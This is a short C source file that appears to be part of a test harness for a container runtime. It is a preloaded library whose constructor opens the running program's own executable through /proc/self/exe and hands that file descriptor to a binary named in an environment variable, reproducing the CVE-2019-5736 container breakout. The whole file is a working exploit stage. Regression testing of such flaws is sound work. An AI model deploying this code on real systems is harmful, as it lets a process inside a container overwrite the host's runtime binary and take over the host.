/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Loaded into the program that starts jobs, by a script whose interpreter is /proc/self/exe: from
 * there that program's own file is one open() away (CVE-2019-5736).
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void hold_program(void)
{
	const char *attack = getenv("WARDER_ATTACK"); /* where `files` is */
	int fd = open("/proc/self/exe", O_PATH);
	char path[32];

	if (!attack)
		return;
	(void)unsetenv("LD_PRELOAD");
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	(void)execl(attack, attack, "program", path, NULL);
	_exit(2);
}
